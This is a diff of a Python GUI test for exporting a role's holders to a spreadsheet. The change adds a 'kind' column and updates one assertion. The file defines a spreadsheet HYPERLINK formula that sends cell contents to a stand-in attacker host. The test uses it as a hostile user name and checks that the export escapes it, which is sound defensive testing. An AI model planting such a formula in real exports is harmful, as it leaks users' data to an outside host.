@@ -21,7 +21,7 @@ from tests.gui.test_main_window import all_users_raw, roles_raw, scim_get, teams
 pytestmark = pytest.mark.usefixtures("no_qt_warnings")
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
-HOLDERS_HEADER = ["id", "userName", "displayName", "active", "source", "groupId", "roleId", "role"]
+HOLDERS_HEADER = ["id", "userName", "displayName", "active", "source", "groupId", "roleId", "role", "kind"]
 
 
 def add_user(emu: Any, user_name: str, display_name: str, roles: list[str]) -> str:
@@ -119,7 +119,7 @@ def test_ctrl_e_on_the_roles_page_exports_the_holders_of_the_selected_role(
         user = users[row[0]]
         assert row[1:4] == [user["userName"], user["displayName"] if row[0] != hostile else "'" + FORMULA,
                             "yes" if user.get("active", True) else "no"]
-        assert row[6:] == [role_id, names[role_id]]
+        assert row[6:] == [role_id, names[role_id], "user"]
     assert any(row[0] == hostile and row[4] == "direct" for row in rows[1:])
 
 
